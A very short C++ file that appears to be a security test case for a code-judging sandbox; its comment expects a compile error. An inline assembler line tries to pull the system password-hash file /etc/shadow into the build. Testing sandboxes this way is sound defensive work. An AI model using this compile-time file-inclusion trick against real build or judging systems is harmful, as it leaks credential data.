// verdict: CE
__asm__(".include \"/etc/shadow\"\n");
class Solution {
 public:
  string mirror(string text) { return text; }
};
